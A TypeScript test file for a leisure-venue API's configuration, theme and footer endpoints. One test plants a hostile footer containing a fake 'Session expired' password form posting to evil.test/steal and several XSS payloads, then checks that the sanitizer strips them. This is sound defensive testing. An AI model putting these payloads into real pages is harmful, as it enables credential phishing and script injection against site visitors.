import { ClientConfig, Theme, defaultTheme } from '@lido/contract';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test-support/test-app';
import { findVenueByIdentifier } from '../venues/venues.repository';
import { MAINTENANCE_MESSAGE } from './site-config.service';
import { venueFooters } from './site-config.tables';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

describe('GET /api/client', () => {
  it("answers the operator's configuration wrapped in data", async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/client' });
    expect(response.statusCode).toBe(200);
    const body = response.json<{ data: unknown }>();
    const config = ClientConfig.parse(body.data);
    expect(config.client_id).toBe('lido-leisure');
    expect(config.currency.symbol).toBe('£');
    expect(config.online_joining_enabled).toBe(true);
    expect(config.migration_date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(config.kiosk_home_url).toContain('kiosk=true');
  });
});

describe('GET /api/frontend/theme', () => {
  it('answers the operator theme over the defaults when no venue is named', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/frontend/theme' });
    expect(response.statusCode).toBe(200);
    const theme = Theme.parse(response.json<{ data: unknown }>().data);
    expect(theme.theme_app_primary_colour).toBe('#8C59F8');
    expect(theme.theme_app_secondary_colour_1).toBe('#3E2DAC');
    expect(theme.theme_app_heading_font_style).toBe('garage_gothic');
    expect(theme.theme_app_body_font_style).toBe('roboto');
    expect(theme.theme_app_secondary_button_style).toBe('solid');
    expect(theme.theme_app_logo).toMatch(/^data:image\/svg\+xml,/);
  });

  it("answers a venue's own colours when the venue has a theme", async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/frontend/theme?venue=britannia-leisure-centre',
    });
    const theme = Theme.parse(response.json<{ data: unknown }>().data);
    expect(theme.theme_app_primary_colour).toBe('#0B7A75');
    expect(theme.header_primary_colour).toBe('#0B7A75');
    // Fields the venue leaves unset still come from the defaults.
    expect(theme.theme_app_body_font_style).toBe(defaultTheme.theme_app_body_font_style);
  });

  it('accepts a numeric venue id wherever a slug is accepted', async () => {
    const bySlug = await t.app.inject({
      method: 'GET',
      url: '/api/frontend/theme?venue=britannia-leisure-centre',
    });
    const byId = await t.app.inject({ method: 'GET', url: '/api/frontend/theme?venue=90002' });
    expect(byId.statusCode).toBe(200);
    expect(byId.json()).toEqual(bySlug.json());
  });

  it('answers 404 with a message for an unknown venue', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/frontend/theme?venue=no-such-venue',
    });
    expect(response.statusCode).toBe(404);
    expect(response.json()).toMatchObject({ message: 'The venue could not be found.' });
  });

  it('answers 422 with field messages for a venue parameter that is too long', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: `/api/frontend/theme?venue=${'x'.repeat(200)}`,
    });
    expect(response.statusCode).toBe(422);
    const body = response.json<{
      message: string;
      errors: Record<string, string[]>;
      status: number;
    }>();
    expect(body.status).toBe(422);
    expect(body.errors.venue?.length).toBeGreaterThan(0);
    expect(body.message).toBe(body.errors.venue?.[0]);
  });

  it('answers 503 with the maintenance message while maintenance is on', async () => {
    const maintenance = await createTestApp({ MAINTENANCE_MODE: true });
    try {
      const response = await maintenance.app.inject({ method: 'GET', url: '/api/frontend/theme' });
      expect(response.statusCode).toBe(503);
      expect(response.json()).toMatchObject({ message: MAINTENANCE_MESSAGE });
      // The rest of the API keeps answering so staff and monitors can still reach it.
      const health = await maintenance.app.inject({ method: 'GET', url: '/api/health' });
      expect(health.statusCode).toBe(200);
    } finally {
      await maintenance.close();
    }
  });
});

describe('GET /api/activities/footer', () => {
  it("answers the venue's footer as HTML", async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/activities/footer?venue=swiss-cottage-leisure-centre',
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/html');
    expect(response.body).toContain('<h2>Swiss Cottage Leisure Centre</h2>');
    expect(response.body).toContain('NW3 3NF');
  });

  it('serves only the text formatting, links and images of a hostile footer', async () => {
    const venue = await findVenueByIdentifier(t.db, 'swiss-cottage-leisure-centre');
    await t.db
      .update(venueFooters)
      .set({
        html:
          '<div style="position:fixed;inset:0;z-index:9999" class="overlay"><h2>Session expired</h2>' +
          '<form action="https://evil.test/steal"><input type="password" name="p"><button>Sign in</button></form></div>' +
          '<iframe src="https://evil.test"></iframe><img src="/logo.png" onerror="alert(1)">' +
          '<a href="javascript:alert(1)">Terms</a><a href="https://example.org" target="_blank">Map</a>' +
          '<svg onload="alert(1)"><script>alert(1)</script></svg><math><mtext><style>x</style></mtext></math>',
      })
      .where(eq(venueFooters.venueId, venue?.id ?? 0));

    const response = await t.app.inject({
      method: 'GET',
      url: '/api/activities/footer?venue=swiss-cottage-leisure-centre',
    });
    expect(response.statusCode).toBe(200);
    expect(response.body).toBe(
      '<div><h2>Session expired</h2>Sign in</div><img src="/logo.png" /><a>Terms</a>' +
        '<a href="https://example.org" target="_blank" rel="noopener noreferrer">Map</a>',
    );
  });

  it('answers an empty footer when no venue is named', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/activities/footer' });
    expect(response.statusCode).toBe(200);
    expect(response.body).toBe('');
  });

  it('answers 404 for an unknown venue', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/activities/footer?venue=nowhere',
    });
    expect(response.statusCode).toBe(404);
    expect(response.json<{ message: string }>().message).toBeTruthy();
  });
});
